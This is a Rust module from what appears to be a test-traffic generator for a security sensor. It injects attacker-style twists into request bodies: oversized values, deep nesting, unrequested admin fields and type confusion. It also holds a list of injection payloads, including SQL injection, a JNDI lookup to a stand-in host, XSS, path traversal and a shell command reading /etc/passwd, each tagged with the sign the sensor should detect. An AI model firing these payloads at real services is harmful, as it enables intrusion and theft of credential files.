//! Twists: what attackers put into bodies that no form asks for.

use model::{Charset, Field, KeyPaths, Pseudonyms, Sign, Signs, ValueKind};

use super::{FIELDS_MAX, Made};
use crate::{plan::Value, world::Make};

/// What somebody does to a body that its route does not expect.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub(crate) enum Twist {
    #[default]
    None,
    /// So many items in the first list.
    Many(u32),
    /// So many bytes in the first text.
    Long(u32),
    /// Lists in lists, so deep, under a name of its own.
    Deep(u8),
    /// A text that means something to a database, a shell or a template, in place of the first value.
    Inject(u8),
    /// Names that nobody asked for.
    Extra,
    /// A value of another type in place of one.
    Type(u8),
}

/// Texts that mean something to what lies behind a service, and what the sensor takes them for.
const INJECTIONS: [(&str, Option<Sign>); 10] = [
    ("' OR '1'='1' --", Some(Sign::Sql)),
    ("1; SELECT pg_sleep(5)--", Some(Sign::Sql)),
    ("{$ne: null}", None),
    ("{{7*7}}", Some(Sign::Template)),
    ("${jndi:ldap://x.example/a}", Some(Sign::Template)),
    ("../../../../etc/passwd", Some(Sign::Traversal)),
    ("<script>alert(1)</script>", Some(Sign::Script)),
    ("`id`; cat /etc/passwd", Some(Sign::Command)),
    ("' UNION SELECT login, hash FROM users --", Some(Sign::Sql)),
    ("%00/../admin", None),
];

/// One of them.
fn injection(which: u8) -> (&'static str, Signs) {
    let (text, sign) = INJECTIONS[usize::from(which) % INJECTIONS.len()];
    (text, sign.map(Signs::from).unwrap_or_default())
}

/// Members that no plan has.
pub(super) fn members(names: &Pseudonyms, mut written: u32, made: &mut Made) {
    let paths = KeyPaths::new(names);
    let mut extra = |name: &str, made: &mut Made| {
        made.put(if written > 0 { b",\"" } else { b"\"" });
        written += 1;
        made.put(name.as_bytes());
        made.put(b"\":");
        made.sum = made.sum.wrapping_add(paths.share(KeyPaths::member(paths.root(), name.as_bytes())));
        let (kind, charset) = (ValueKind::Null, Charset::default());
        let signs = Signs::default();
        let field = Field { name: name.into(), kind, length: 0, charset, magnitude: 0, signs };
        (made.fields.len() < FIELDS_MAX).then(|| {
            made.fields.push(field);
            made.fields.len() - 1
        })
    };
    match made.twist {
        Twist::Extra => {
            for (name, value) in [("role", "admin"), ("is_admin", "true"), ("tier", "gold")] {
                let field = extra(name, made);
                let value_of = Value::text(u32::try_from(value.len()).unwrap_or(0), Charset::LOWER);
                made.scalar(field, value_of, |out| out.extend_from_slice(value.as_bytes()));
            }
        }
        Twist::Deep(depth) => {
            let field = extra("filter", made);
            made.tell_items(field, ValueKind::List, 1);
            let seen: Vec<bool> = (0..depth).map(|_| made.open(b"[")).collect();
            made.tell_items(field, ValueKind::List, u32::from(depth > 1));
            let closing = (0..depth).zip(seen.into_iter().rev());
            closing.for_each(|(at, is_seen)| made.close_list(u32::from(at > 0), is_seen));
        }
        _ => {}
    }
    made.twist = Twist::None;
}

/// Writes what stands in place of a scalar, if something does.
pub(super) fn scalar(make: &Make, field: Option<usize>, made: &mut Made) -> bool {
    match made.twist {
        Twist::Long(bytes) if matches!(make, Make::Word(..) | Make::Text(..) | Make::Date) => {
            let value = Value::text(bytes, Charset::LOWER);
            made.scalar(field, value, |out| out.extend((0..bytes).map(|_| b'a')));
        }
        Twist::Inject(which) if !matches!(make, Make::Bool) => {
            let (text, signs) = injection(which);
            let value = Value::text(u32::try_from(text.len()).unwrap_or(0), Charset::of(text.as_bytes()).0);
            made.scalar(field, value, |out| out.extend_from_slice(text.as_bytes()));
            made.sign(field, signs);
        }
        Twist::Type(0) => {
            let value = Value {
                kind: ValueKind::Null,
                length: 4,
                charset: Charset::LOWER,
                magnitude: 0,
                is_quoted: false,
            };
            made.scalar(field, value, |out| out.extend_from_slice(b"null"));
        }
        Twist::Type(digits) => {
            let digits = u32::from(digits).min(40);
            let value = Value::digits(digits);
            made.scalar(field, value, |out| out.extend((0..digits).map(|_| b'9')));
        }
        _ => return false,
    }
    made.twist = Twist::None;
    true
}

/// What stands in place of a parameter, if something does, and its text.
pub(super) fn parameter(make: &Make, made: &mut Made, text: &mut Vec<u8>) -> Option<(Value, Signs)> {
    let mut signs = Signs::default();
    let value = match made.twist {
        Twist::Inject(which) if !matches!(make, Make::Bool) => {
            let (found, signs_of) = injection(which);
            text.extend_from_slice(found.as_bytes());
            signs = signs_of;
            Value::text(0, 0)
        }
        Twist::Long(bytes) => {
            text.resize(bytes.min(4_000) as usize, b'a');
            Value::text(0, 0)
        }
        Twist::Type(digits) if digits > 0 => {
            text.resize(usize::from(digits.min(40)), b'9');
            Value::digits(u32::from(digits.min(40)))
        }
        _ => return None,
    };
    made.twist = Twist::None;
    let length = u32::try_from(text.len()).unwrap_or(0);
    Some((Value { length, charset: Charset::of(text).0, ..value }, signs))
}
